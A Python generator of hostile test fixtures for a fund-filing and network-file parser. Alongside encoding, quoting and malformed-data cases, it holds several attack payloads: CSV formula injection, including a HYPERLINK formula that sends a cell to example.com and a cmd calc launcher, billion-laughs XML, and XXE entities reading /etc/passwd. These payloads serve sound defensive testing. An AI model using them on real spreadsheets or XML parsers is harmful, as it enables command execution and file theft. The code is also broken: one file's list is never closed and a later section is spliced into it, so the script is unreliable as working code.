#!/usr/bin/env python3
"""Writes the hostile-input catalogue files of tests/CapitalNetwork.Tests/TestData/hostile/.

Python 3.11 standard library only (the codecs utf-8, utf-16-le/-be, utf-32-le and gb18030). Run from this folder:
    python3 make_hostile.py
The expected outcome of each file is in catalogue.tsv, worked out by hand from the rows below (each row's comment says
what it is); tests/CapitalNetwork.Tests/Hostile/HostileCatalogueTests.cs replays them all.
"""
import os

HERE = os.path.dirname(os.path.abspath(__file__))
EN = "fund_id,fund_name,fund_place,filed_on,partner_name,partner_place,partner_credit_code,capital"
CN = "基金编号,基金名称,注册地,备案时间,合伙人名称,所在地,统一社会信用代码,认缴出资额（万元）"
GOOD = [  # three valid rows, three distinct funds
    "F1,甲基金,广东省深圳市南山区,2023-05-06,甲公司,北京市海淀区,,100",
    "F2,乙基金,上海市浦东新区,2022-01-02,乙公司,浙江省杭州市,,50",
    "F3,丙基金,江苏省苏州市,2021-03-04,丙公司,江苏省南京市,,5",
]


def write(name, data):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


def text(lines, end="\n"):
    return end.join(lines) + end


# --- encodings and byte-order marks -------------------------------------------------------------------------------
write("empty.csv", b"")
write("header-only.csv", (EN + "\n").encode())
write("header-only-no-newline.csv", EN.encode())
write("blank-first-line.csv", ("\n\n" + text([EN] + GOOD)).encode())
write("bom-utf8.csv", b"\xef\xbb\xbf" + text([CN] + GOOD).encode("utf-8"))
write("bom-utf16le.csv", b"\xff\xfe" + text([CN] + GOOD, "\r\n").encode("utf-16-le"))
write("bom-utf16be.csv", b"\xfe\xff" + text([CN] + GOOD, "\r\n").encode("utf-16-be"))
write("bom-utf32le.csv", b"\xff\xfe\x00\x00" + text([CN] + GOOD).encode("utf-32-le"))
write("utf16le-no-bom.csv", text([CN] + GOOD).encode("utf-16-le"))
write("gb18030.csv", text([CN] + GOOD, "\r\n").encode("gb18030"))
# GB18030 bytes read as UTF-8 because the caller said so (FilingsReadOptions.Encoding = UTF-8): English header, so the
# header is fine and each data row with Chinese text has bytes that are not UTF-8 -> bad_encoding on lines 2-4.
write("gb18030-told-utf8.csv", text([EN] + GOOD).encode("gb18030"))
# The same with the Chinese header: the header itself is garbled, so there is no fund place column.
write("gb18030-cn-header-told-utf8.csv", text([CN] + GOOD).encode("gb18030"))
# UTF-8 bytes read as GB18030 because the caller said so: every UTF-8 byte sequence decodes to some GB18030 text
# (mojibake), so the places are not recognised -> unknown_place on lines 2-4 (nothing is silently counted).
write("utf8-told-gb18030.csv", text([EN] + GOOD).encode("utf-8"))
# A UTF-8 file with one row pasted from a GB18030 export (line 3): detected as UTF-8, that row is bad_encoding.
write("mixed-encodings.csv", text([EN, GOOD[0]]).encode() + text([GOOD[1]]).encode("gb18030") + text([GOOD[2]]).encode())

# --- quoting, line breaks, field counts --------------------------------------------------------------------------
write("unbalanced-quotes.csv", text([
    EN,
    GOOD[0],                                                    # 2 used
    'F4,"丁基金,广东省深圳市,2023-01-01,丁公司,北京市,,1',        # 3 quote never closed on its line -> malformed_row
    'F5,戊"基金,广东省深圳市,2023-01-01,戊公司,北京市,,1',        # 4 stray quote inside a field -> malformed_row
    'F6,"己基金"x,广东省深圳市,2023-01-01,己公司,北京市,,1',      # 5 text after the closing quote -> malformed_row
    '"F7","庚基金","广东省深圳市","2023-01-01","庚公司","北京市","","1"',  # 6 fully quoted: used
    GOOD[1],                                                    # 7 used
]).encode())
# With AllowLineBreaksInQuotes the same unclosed quote runs to the end of the input: RFC 4180 makes the rest one field.
write("unclosed-quote-multiline.csv", text([EN, GOOD[0], 'F4,"丁基金,广东省深圳市,2023-01-01,丁公司,北京市,,1', GOOD[1], GOOD[2]]).encode())
write("field-counts.csv", text([
    EN,
    "F1,甲基金,广东省深圳市,2023-05-06,甲公司,北京市海淀区,,100,,,",   # 2 extra empty fields (Excel): used
    "F2,乙基金,上海市,2022-01-02,乙公司,杭州市,,50,x",                 # 3 extra non-empty field -> malformed_row
    "F3,丙基金,江苏省苏州市,2021-03-04,丙公司",                        # 4 too few fields (merged cells) -> malformed_row
    "",                                                                # 5 blank line: not a row
    "F4,丁基金,江苏省苏州市,2021-03-04,丁公司,江苏省南京市,,5",        # 6 used
]).encode())
write("cr-line-endings.csv", text([EN] + GOOD, "\r").encode())

# --- very long fields and lines ----------------------------------------------------------------------------------
long_name = "长" * 150_000       # 150,000 characters (450,000 UTF-8 bytes): longer than a line may be (400,000 bytes)
write("long-line.csv", text([EN, GOOD[0], f"F9,{long_name},广东省深圳市,2023-01-01,某公司,北京市,,1", GOOD[1], GOOD[2]]).encode())
field_110k = "x" * 110_000       # 110,000 ASCII characters: fits in a line, longer than MaxFieldLength (100,000)
write("long-field.csv", text([EN, GOOD[0], f"F9,{field_110k},广东省深圳市,2023-01-01,某公司,北京市,,1", GOOD[1]]).encode())
write("long-header.csv", ("h" * 500_000 + "," + EN + "\n" + GOOD[0] + "\n").encode())

# --- control characters ------------------------------------------------------------------------------------------
write("control-characters.csv", text([
    EN,
    "F1,甲\x00基金,广东省深圳市\x07,2023-05-06,甲\x1b公司,北京市\x00海淀区,,100",  # 2 NUL/BEL/ESC inside fields: used
    "\x01row:3,,上海市,2022-01-02,乙公司,杭州市,,50",                              # 3 fund id U+0001 'row:3': trimmed to 'row:3', used
    ",,上海市,2022-01-02,丙公司,杭州市,,50",                                        # 4 no fund id or name: its own fund, used
    "\x7fF4\x1f,丁基金,\x00,2021-03-04,丁公司,南京市,,5",                           # 5 fund place only a NUL -> missing_field
]).encode())
write("nul-in-header.csv", b"fund_place\x00,partner_place\n" + "深圳,北京\n".encode())
write("xlsx-signature.csv", b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00" + b"\x00" * 64)

# --- wide files and headers --------------------------------------------------------------------------------------
extra = [f"extra_{i}" for i in range(992)]                       # 8 known + 992 unknown = 1,000 columns
write("columns-1000.csv", text([EN + "," + ",".join(extra)] + [g + "," + ",".join(["v"] * 992) for g in GOOD]).encode())
write("duplicate-headers.csv", text([
    "fund_id,注册地,fund_place,所在地,partner_place,capital,认缴出资额（万元）",   # 注册地/fund_place, 所在地/partner_place, capital/认缴出资额
    "F1,广东省深圳市,上海市,北京市,杭州市,100,1",                                   # the first of each is used: 北京 -> 深圳, 100 CNY
]).encode())
write("no-place-column.csv", text(["fund_id,partner_place", "F1,北京市"]).encode())

# --- amounts and dates -------------------------------------------------------------------------------------------
amounts = ["1,000", "1,000万元", "1.5亿元", "¥2,000.00", "５００万", "500万人民币", "1e3", "-5", "NaN", "Infinity", "1e400", "abc", "−5", "-0", ""]
write("amounts.csv", text(["fund_id,fund_place,partner_name,partner_place,capital"] +
                           [f'F{i},深圳市,P{i},北京市,"{a}"' for i, a in enumerate(amounts)]).encode())
dates = ["2023-02-30", "2023-13-01", "0000-00-00", "1979-12-31", "2101-01-01", "99999", "20230230", "2023年2月30日", "45052",
         "2023/2/29", "2024/2/29", "2023.5.6", "20230506", "2023-05-06T10:00", "yesterday"]
write("dates.csv", text(["fund_id,fund_place,filed_on,partner_name,partner_place"] +
                         [f"D{i},深圳市,{d},P{i},北京市" for i, d in enumerate(dates)]).encode())

# --- many bad rows, duplicates, places -----------------------------------------------------------------------------
write("many-bad-rows.csv", text([EN] + [f"B{i},坏基金,火星市,2023-01-01,某公司,北京市,,1" for i in range(50)] + [GOOD[0]]).encode())
write("duplicates-and-places.csv", text([
    EN,
    GOOD[0],                                                    # 2 used
    "F1,甲基金,广东省深圳市南山区,2023-05-06,甲公司,北京市海淀区,,100",  # 3 same fund and partner -> duplicate_pair
    "F1,甲基金,广东省深圳市南山区,2024-01-01,乙公司,北京市,,1",     # 4 another date for F1 -> inconsistent_filing_date (warning), used
    "F8,辛基金,朝阳区,2023-01-01,某公司,北京市,,1",               # 5 朝阳区 alone -> ambiguous_place
    "F9,壬基金,广东省,2023-01-01,某公司,北京市,,1",               # 6 a province only -> province_only_place
    "F10,癸基金,开曼群岛,2023-01-01,某公司,北京市,,1",            # 7 abroad -> foreign_place
    "F11,子基金,深圳市,2023-01-01,某公司,,91440300MA5XXXXXX0,1",   # 8 no partner place, bad credit code -> unknown_place
    "F12,丑基金,深圳市,2023-01-01,某公司,,,1",                    # 9 neither partner place nor code -> missing_field
]).encode())

# Company names in place columns: a county or prefecture short name at the start of a longer name is not a place by
# default (uncertain_place); addresses that start the same way still resolve. 平安 = 平安区 (海东市 630200), 兴业 = 兴业县
# (玉林市 450900), 东方 = 东方市 469007 (divisions.csv). The credit code of line 5 names 浦东新区 310115 (上海); its check
# character by hand: sum of values x weights of "91310115MA1K4XH30" = 2163, 2163 mod 31 = 24, 31 - 24 = 7 -> '7'.
F1 = "F1,甲基金,广东省深圳市南山区,2023-05-06"
write("short-name-prefixes.csv", text([
    EN,
    GOOD[0],                                                    # 2 used
    "F2,乙基金,平安银行,2023-01-01,乙公司,北京市,,1",             # 3 fund place is a company name -> uncertain_place
    F1 + ",兴业证券股份有限公司,兴业证券股份有限公司,,1",           # 4 partner place is a company name, no code -> uncertain_place
    F1 + ",东方财富,东方财富,91310115MA1K4XH307,1",               # 5 the same, but the credit code gives 上海: used
    F1 + ",子公司,昆山市玉山镇,,1",                                # 6 full name: 苏州, used
    F1 + ",丑公司,平安区人民路1号,,1",                             # 7 full name then a road: 海东, used
    F1 + ",寅公司,东方市八所镇,,1",                                # 8 full name then a town: 东方, used
    F1 + ",卯公司,北仑区梅山,,1",                                  # 9 full name then the zone: 宁波, used
    F1 + ",辰公司,雄安,,1",                                        # 10 a zone's short form alone: 保定, used
    F1 + ",巳公司,朝阳区,,1",                                      # 11 朝阳区 alone -> ambiguous_place, as before
]).encode())

# --- issue 16: natural persons, unstated capital units, unrecognised capital headers ------------------------------
# Natural persons have no public place: by default partner_without_place (links and capital left out); with
# unplaced=atfund they count as local capital of the fund's city with a partner_placed_at_fund_city warning.
write("natural-persons.csv", text([
    "fund_id,fund_place,filed_on,partner_name,partner_kind,partner_place,partner_credit_code,认缴出资额（万元）",
    "F1,深圳市,2023-05-06,甲公司,有限合伙人,北京市,,100",        # 2 used
    "F1,深圳市,2023-05-06,张三,自然人,,,50",                       # 3 natural person, no place, no code
    "F2,上海市,2022-01-02,李四,自然人,,,5",                        # 4 natural person, no place, no code
    "F2,上海市,2022-01-02,乙公司,有限合伙人,杭州市,,20",          # 5 used
]).encode())
# A unitless 'capital' header over amounts that are 万元 (2,000 / 3,000 / 500 / 800; below 10,000 in 4 of 4 positive
# amounts): capital_unit_unclear on line 1 after the rows; the amounts are still read as yuan (total 6,300 CNY).
write("capital-unit-unclear.csv", text([
    "fund_id,fund_place,filed_on,partner_name,partner_place,capital",
    "F1,深圳市,2023-05-06,甲,北京市,2000",
    "F1,深圳市,2023-05-06,乙,上海市,3000",
    "F2,上海市,2022-01-02,丙,杭州市,500",
    "F3,杭州市,2021-03-04,丁,北京市,800",
]).encode())
# The capital header is not one the schema knows ('出资金额（万）' is not a synonym): missing_column on line 1 naming the
# headers; every row is used with zero capital.
write("capital-header-unknown.csv", text([
    "fund_id,fund_place,filed_on,partner_place,出资金额（万）",
    "F1,深圳市,2023-05-06,北京市,100",
    "F2,上海市,2022-01-02,杭州市,50",
]).encode())

# --- formulas for spreadsheets (CSV injection, OWASP payloads) --------------------------------------------------------
# Text from filings reaches the diagnostics CSV (raw cells) and the Gephi CSV (ids); a spreadsheet would run these.
write("formula-cells.csv", text([
    EN,
    "F1,=cmd|' /C calc'!A0,广东省深圳市南山区,2023-05-06,@SUM(A1),北京市海淀区,,100",  # 2 formulas in names are only data: used
    'F2,乙基金,"=HYPERLINK(""http://example.com/?d=""&A1,""x"")",2022-01-02,乙公司,浙江省杭州市,,50',  # 3 -> unknown_place
    "F3,丙基金,江苏省苏州市,2021-03-04,丙公司,+1,,5",                  # 4 partner place '+1' -> unknown_place
    "F4,丁基金,江苏省苏州市,2021-03-04,丁公司,-2+3,,5",                # 5 partner place '-2+3' -> unknown_place
    "F5,戊基金,江苏省苏州市,2021-03-04,戊公司,江苏省南京市,,-3.5",     # 6 negative amount -> bad_amount (raw -3.5 is a number)
    "F1,=cmd|' /C calc'!A0,广东省深圳市南山区,2023-05-06,@SUM(A1),北京市海淀区,,100",  # 7 row 2 again -> duplicate_pair '@SUM(A1)'
    "F6,己基金,江苏省苏州市,2021-03-04,己公司,\t=1,,5",                 # 8 partner place tab '=1' -> unknown_place (tab trimmed: raw '=1')
]).encode())
write("edgelist-formulas.csv", text([
    "source,target,weight",
    "=cmd|' /C calc'!A0,@SUM(A1),2",  # 2 edge between two formula ids
    "+1,-2+3,1",                      # 3 edge between two more
    "-3.5,b,1",                       # 4 an id that is a plain negative number, and a plain one
]).encode())

# --- GEXF ----------------------------------------------------------------------------------------------------------
GEXF_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
write("billion-laughs.gexf", (GEXF_HEAD + """<!DOCTYPE gexf [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<gexf xmlns="http://gexf.net/1.3" version="1.3"><graph defaultedgetype="directed"><nodes><node id="a" label="&lol9;"/></nodes><edges/></graph></gexf>
""").encode())
write("external-entity.gexf", (GEXF_HEAD + """<!DOCTYPE gexf [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<gexf xmlns="http://gexf.net/1.3" version="1.3"><graph defaultedgetype="directed"><nodes><node id="a" label="&xxe;"/></nodes><edges/></graph></gexf>
""").encode())
write("external-dtd.gexf", (GEXF_HEAD + """<!DOCTYPE gexf SYSTEM "http://127.0.0.1:9/gexf.dtd">
<gexf xmlns="http://gexf.net/1.3" version="1.3"><graph defaultedgetype="directed"><nodes><node id="a"/></nodes><edges/></graph></gexf>
""").encode())
write("undeclared-node.gexf", (GEXF_HEAD + """<gexf xmlns="http://gexf.net/1.3" version="1.3">
  <graph defaultedgetype="directed">
    <nodes>
      <node id="a" label="A"/>
      <node id="b" label="B"/>
    </nodes>
    <edges>
      <edge id="0" source="a" target="b" weight="2"/>
      <edge id="1" source="a" target="zz" weight="1"/>
    </edges>
  </graph>
</gexf>
""").encode())
write("not-xml.gexf", b"source,target\na,b\n")
write("empty.gexf", b"")
write("truncated.gexf", (GEXF_HEAD + '<gexf xmlns="http://gexf.net/1.3" version="1.3"><graph defaultedgetype="directed"><nodes><node id="a"/>').encode())
write("nan-weight.gexf", (GEXF_HEAD + """<gexf xmlns="http://gexf.net/1.3" version="1.3"><graph defaultedgetype="directed">
<nodes><node id="a"/><node id="b"/></nodes>
<edges><edge id="0" source="a" target="b" weight="NaN"/></edges></graph></gexf>
""").encode())
write("valid-small.gexf", (GEXF_HEAD + """<gexf xmlns="http://gexf.net/1.3" version="1.3"><graph defaultedgetype="directed">
<nodes><node id="a"/><node id="b"/><node id="c"/></nodes>
<edges><edge id="0" source="a" target="b" weight="2"/><edge id="1" source="b" target="c"/></edges></graph></gexf>
""").encode())

# --- GEXF of other tools (issue 20): undirected, mixed, undeclared, parallel, GEXF 1.1 slices, slice mode -------------
write("undirected-default.gexf", text([          # no defaultedgetype: GEXF's default is undirected
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<gexf xmlns="http://www.gexf.net/1.2draft" version="1.2">',
    '<graph>',
    '<nodes><node id="a"/><node id="b"/><node id="c"/></nodes>',
    '<edges>',
    '<edge id="0" source="a" target="b" weight="2"/>',   # line 6: a->b, b->a
    '<edge id="1" source="b" target="c"/>',              # b->c, c->b
    '<edge id="2" source="c" target="c"/>',              # self-loop: once
    '</edges></graph></gexf>',
]).encode())
write("mixed-parallel.gexf", text([
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<gexf xmlns="http://gexf.net/1.3" version="1.3">',
    '<graph defaultedgetype="directed">',
    '<nodes><node id="a"/><node id="b"/><node id="c"/></nodes>',
    '<edges>',
    '<edge id="0" source="a" target="b"/>',                      # line 6
    '<edge id="1" source="b" target="c" type="undirected"/>',    # line 7: b->c, c->b
    '<edge id="2" source="a" target="b" kind="seed"/>',          # line 8: parallel to edge 0
    '<edge id="3" source="c" target="b" type="mutual"/>',        # line 9: parallel to edge 1 (both ways)
    '</edges></graph></gexf>',
]).encode())
write("undeclared-attribute.gexf", text([
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<gexf xmlns="http://gexf.net/1.3" version="1.3">',
    '<graph defaultedgetype="directed">',
    '<attributes class="node"><attribute id="tags" title="tags" type="liststring"/><attribute id="n" title="n" type="integer"/></attributes>',
    '<nodes>',
    '<node id="a"><attvalues><attvalue for="tags" value="[seed, angel]"/><attvalue for="zz" value="1"/></attvalues></node>',  # line 6
    '<node id="b"><attvalues><attvalue for="n" value="1.5"/><attvalue for="zz" value="2"/></attvalues></node>',          # line 7
    '</nodes>',
    '<edges><edge id="0" source="a" target="b"/></edges></graph></gexf>',
]).encode())
write("gexf11-slices.gexf", text([                 # GEXF 1.1: <slices><slice>, attvalue 'id' instead of 'for'
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<gexf xmlns="http://www.gexf.net/1.1draft" version="1.1">',
    '<graph defaultedgetype="directed" mode="dynamic" timeformat="double">',
    '<nodes><node id="a"><slices><slice start="2018.0" end="2020.0"/></slices></node><node id="b"/></nodes>',
    '<edges>',
    '<edge id="0" source="a" target="b" weight="3"><slices><slice start="2018.0" end="2018.0"/><slice start="2020.0" end="2020.0"/></slices></edge>',
    '</edges></graph></gexf>',
]).encode())
write("slice-mode.gexf", text([                    # mode="slice": the graph's timestamp is every element's time
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<gexf xmlns="http://gexf.net/1.3" version="1.3">',
    '<graph defaultedgetype="directed" mode="slice" timeformat="integer" timestamp="2019">',
    '<nodes><node id="a"/><node id="b"/></nodes>',
    '<edges><edge id="0" source="a" target="b" weight="4"/><edge id="1" source="b" target="x"/></edges>',
    '</graph></gexf>',
]).encode())

# --- GraphML (issue 20) ---------------------------------------------------------------------------------------------
GRAPHML_ROOT = '<graphml xmlns="http://graphml.graphdrawing.org/xmlns">'
write("graphml-billion-laughs.graphml", (GEXF_HEAD + """<!DOCTYPE graphml [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
""" + GRAPHML_ROOT + """<graph edgedefault="directed"><node id="a"><data key="l">&lol3;</data></node></graph></graphml>
""").encode())
write("graphml-external-entity.graphml", (GEXF_HEAD + """<!DOCTYPE graphml [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
""" + GRAPHML_ROOT + """<graph edgedefault="directed"><node id="a"><data key="l">&xxe;</data></node></graph></graphml>
""").encode())
write("graphml-not-graphml.graphml", (GEXF_HEAD + '<gexf version="1.3"><graph/></gexf>\n').encode())
write("graphml-loose.graphml", text([             # no edgedefault (undirected), undeclared node and key, parallel edges
    '<?xml version="1.0" encoding="UTF-8"?>',
    GRAPHML_ROOT,
    '<key id="w" for="edge" attr.name="weight" attr.type="double"><default>1.5</default></key>',
    '<key id="k" for="node" attr.name="kind" attr.type="int"/>',
    '<graph id="G">',
    '<node id="a"><data key="k">x</data></node>',           # line 6: bad int -> bad_attribute_value
    '<node id="b"><data key="nokey">1</data></node>',       # line 7: undeclared key
    '<edge source="a" target="b"><data key="w">2</data></edge>',   # line 8: a-b both ways
    '<edge source="b" target="a"/>',                        # line 9: parallel (weight 1.5)
    '<edge source="b" target="c" directed="true"/>',        # line 10: c undeclared; directed
    '</graph></graphml>',
]).encode())
write("graphml-strict.graphml", text([
    '<?xml version="1.0" encoding="UTF-8"?>',
    GRAPHML_ROOT,
    '<graph id="G" edgedefault="directed">',
    '<node id="a"/>',
    '<edge source="a" target="zz"/>',                       # line 5
    '</graph></graphml>',
]).encode())
write("graphml-hyperedge.graphml", text([
    '<?xml version="1.0" encoding="UTF-8"?>',
    GRAPHML_ROOT,
    '<graph id="G" edgedefault="directed"><node id="a"/><node id="b"/><node id="c"/>',
    '<hyperedge><endpoint node="a"/><endpoint node="b"/><endpoint node="c"/></hyperedge>',   # line 4
    '</graph></graphml>',
]).encode())
write("graphml-deep-nesting.graphml", (GEXF_HEAD + GRAPHML_ROOT + '<graph edgedefault="directed">'
    + '<node id="n{}"><graph>' * 100 + '</graph></node>' * 100 + '</graph></graphml>\n').format(*range(100)).encode())
write("graphml-bad-weight.graphml", text([
    '<?xml version="1.0" encoding="UTF-8"?>',
    GRAPHML_ROOT,
    '<key id="w" for="edge" attr.name="weight" attr.type="double"/>',
    '<graph id="G" edgedefault="directed"><node id="a"/><node id="b"/>',
    '<edge source="a" target="b"><data key="w">-INF</data></edge>',   # line 5
    '</graph></graphml>',
]).encode())
write("graphml-yed.graphml", text([               # yEd: graphics keys without attr.type, labels in y:NodeLabel, a group
    '<?xml version="1.0" encoding="UTF-8" standalone="no"?>',
    '<graphml xmlns="http://graphml.graphdrawing.org/xmlns" xmlns:y="http://www.yworks.com/xml/graphml">',
    '<key for="node" id="d6" yfiles.type="nodegraphics"/>',
    '<graph edgedefault="directed" id="G">',
    '<node id="n0"><data key="d6"><y:ShapeNode><y:Geometry x="1" y="2"/><y:NodeLabel>北京</y:NodeLabel></y:ShapeNode></data></node>',
    '<node id="n1"><data key="d6"><y:ProxyAutoBoundsNode/></data><graph edgedefault="directed" id="n1:"><node id="n1::n0"/></graph></node>',
    '<edge id="e0" source="n0" target="n1::n0"/>',
    '</graph></graphml>',
]).encode())

write("graphml-two-graphics.graphml", text([     # two structured (yEd) data in one node: each must be consumed
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<graphml xmlns="http://graphml.graphdrawing.org/xmlns" xmlns:y="http://www.yworks.com/xml/graphml">',
    '<key for="node" id="d5" yfiles.type="nodegraphics"/><key for="node" id="d6" attr.name="NodeStyle" y:attr.uri="urn:style"/>',
    '<graph edgedefault="directed">',
    '<node id="n0"><data key="d5"><y:ShapeNode><y:NodeLabel>first</y:NodeLabel></y:ShapeNode></data><data key="d6"><y:NodeLabel>second</y:NodeLabel></data></node>',
    '</graph></graphml>',
]).encode())

# --- edge lists ----------------------------------------------------------------------------------------------------
write("edgelist-hostile.csv", text([
    "source,target,weight",
    "a,b,2",              # 2 used
    "a,b,-1",             # 3 negative -> bad_amount
    "b,c,NaN",            # 4 not finite -> bad_amount
    ",c,1",               # 5 no source -> missing_field
    'c,"d,1',             # 6 unclosed quote -> malformed_row
    "z,,",                # 7 isolated node z
    "d\x00,e,1",          # 8 NUL in an id: kept as text (source 'd\\0')
]).encode())
write("edgelist-long-line.csv", text(["source,target,weight", "a,b,1", "x" * 500_000 + ",y,1", "b,c,1"]).encode())

# --- Pajek and UCINET DL (issue 20) ----------------------------------------------------------------------------------
write("pajek-hostile.net", text([
    "*Vertices 3",
    '1 "a\x01b" 0.5 0.5',  # 2 a control character inside a label is kept
    '0 "zero"',           # 3 not a vertex number -> malformed_row
    '1 "again"',          # 4 declared twice -> malformed_row
    '2 "b"',
    "3 c",
    "*Arcs",
    "1 2 -1",             # 8 negative -> bad_amount
    "1 2 NaN",            # 9 -> bad_amount
    "1 2 1e400",          # 10 infinite -> bad_amount
    "1 2 2",              # 11 used
    "1 2 3",              # 12 parallel -> summed (5), warning
    "2 99 1",             # 13 undeclared vertex 99 -> added, warning
    "*Edges",
    "3 1 4",              # 15 undirected -> 3->1 and 1->3; one summary warning at the end
    "x",                  # 16 one token -> malformed_row
    "1 2 " + "9" * 1_100_000,  # 17 longer than 1,048,576 characters -> cut, malformed_row
    "*Partition p",       # 18 the network is complete: the rest is skipped
    "1 2 100",
]).encode())
write("pajek-huge-count.net", b"*Vertices 2147483648\n")
write("pajek-binary.net", b"PK\x03\x04\x00\x00\xff\xfe\n\x00*\x00V\n")
write("pajek-bom-crlf.net", "\ufeff*network x\r\n*vertices 2\r\n1 \"甲\"\r\n2 \"乙\"\r\n*arcs\r\n1 2 1.5\r\n".encode("utf-8"))
write("dl-hostile.dl", text([
    "DL N=3",
    "FORMAT = FULLMATRIX",
    "LABELS:",
    '"data:", "x y", z, extra',  # 4 a quoted keyword is a name; four labels for N=3 -> malformed_row
    "DATA:",
    "0 -1 2",             # 6 -1 -> bad_amount; 1->3 (2)
    "x 0 0",              # 7 x -> bad_amount
    "1 0 NaN",            # 8 NaN -> bad_amount; 3->1 (1)
    "5",                  # 9 after the last row -> malformed_row
]).encode())
write("dl-two-mode.dl", b"DL NR=2, NC=3\nDATA:\n1 0 1\n0 1 0\n")
write("dl-huge-n.dl", b"dl n=99999999999\ndata:\n")
write("dl-embedded.dl", text([
    "DL n=2 format=edgelist1",
    "labels embedded:",
    "data:",
    "a b 1",
    "b a 2",
    "c a 1",              # 6 a third name for n=2 -> added, undeclared_node
    "a b 3",              # 7 parallel -> summed, parallel_edges
]).encode())
write("not-dl.dl", b"source,target\na,b\n")
# --- issue 17: township layer and names that only start a longer name -------------------------------------------------
# One rule for a place name that is only the start of a road, market or town name (uncertain_place, accepted with
# shortprefix); townships resolve where unique (黎里镇 320509110 → 苏州 320500, townships.csv); a township name in several
# cities is ambiguous (玉山镇: 昆山, 江山, 武夷山 …); 火星 is a township's short name only, so 火星市 stays unknown. Nodes by
# hand from divisions.csv/aliases.csv: 浦东 → 浦东新区 310115 (上海), 路北区 130203 (唐山 130200), 台北市 → 710000,
# Haidian → 海淀区 110108 (北京), 景县 131127 (衡水 131100).
write("townships-and-run-on-names.csv", text([
    EN,
    GOOD[0],                                        # 2 used
    F1 + ",甲1,中山北路972号,,1",                    # 3 中山 starts the road name 中山北路 -> uncertain_place
    F1 + ",甲2,东方市场八区,,1",                     # 4 东方市 starts 东方市场 (a market) -> uncertain_place
    F1 + ",甲3,玉山镇朝阳西路,,1",                   # 5 玉山镇 is a township in 6 cities -> ambiguous_place
    F1 + ",甲4,开原乡街内,,1",                       # 6 开原 starts 开原乡 (a township of another place) -> uncertain_place
    F1 + ",甲5,黎里镇汾湖大道,,1",                   # 7 unique township: 苏州, used
    F1 + ",甲6,浦东三林镇,,1",                       # 8 浦东 + its township 三林镇: 上海, used
    F1 + ",甲7,唐山路北区,,1",                       # 9 city and district run together: 唐山, used
    F1 + ",甲8,台北市松山區,,1",                     # 10 traditional characters: 台湾, used
    F1 + ',甲9,"Haidian District, Beijing",,1',     # 11 English: 北京, used
    F1 + ",甲10,景 县,,1",                           # 12 a stray space inside the name: 衡水, used
    F1 + ",甲11,火星市,,1",                          # 13 no place -> unknown_place
# --- issue 17: spreadsheets, two tables, headers ----------------------------------------------------------------------
# Workbooks are written with the SpreadsheetML writer of ../sheets/make_workbooks.py (zip + XML, standard library);
# the .xls ones need LibreOffice (soffice, from Debian's libreoffice-calc-nogui) and python3-uno: they are kept as
# committed when it is missing.
import importlib.util, shutil, subprocess, tempfile
_spec = importlib.util.spec_from_file_location("make_workbooks", os.path.join(HERE, "..", "sheets", "make_workbooks.py"))
wb = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(wb)


def book(name, rows, merges=(), sheet="Sheet1"):
    b = wb.Book()
    b.add(sheet, rows, merges)
    b.save(os.path.join(HERE, name))


# A good export: title row 1, blank row 2, header row 3 (基金编号 … 认缴出资额（万元）), fund columns of F1 merged over rows 4-5,
# a date cell on row 4, a serial day (44927 = 2023-01-01) on row 6; 100 + 50 + 5 万元 = 1,550,000 CNY.
import datetime
book("sheet-good.xlsx", [["私募基金合伙人信息"], [], ["基金编号", "注册地", "备案时间", "合伙人名称", "所在地", "认缴出资额（万元）"],
                         ["F1", "广东省深圳市南山区", datetime.date(2023, 5, 6), "甲公司", "北京市海淀区", 100],
                         [None, None, None, "乙公司", "浙江省杭州市", 50],
                         ["F2", "上海市浦东新区", 44927, "丙公司", "江苏省南京市", "5"]],
     merges=["A4:A5", "B4:B5", "C4:C5"])
book("sheet-empty.xlsx", [])
# Row 3's partner place is 150,000 characters (> MaxFieldLength 100,000): malformed_row at B3.
book("sheet-huge-cell.xlsx", [["fund_place", "partner_place"], ["深圳市", "北京市"], ["深圳市", "深" * 150_000], ["上海市", "北京市"]])
write("sheet-corrupt-zip.xlsx", b"PK\x03\x04" + bytes(range(256)) * 4)
with open(os.path.join(HERE, "sheet-good.xlsx"), "rb") as f:
    _good = f.read()
write("sheet-truncated.xlsx", _good[: len(_good) // 2])
write("sheet-corrupt.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"\xff" * 1024)
if shutil.which("soffice"):
    # sheet-password.xls: sheet-good.xlsx saved by LibreOffice as .xls with the password "secret" (through UNO, since
    # --convert-to ignores passwords).
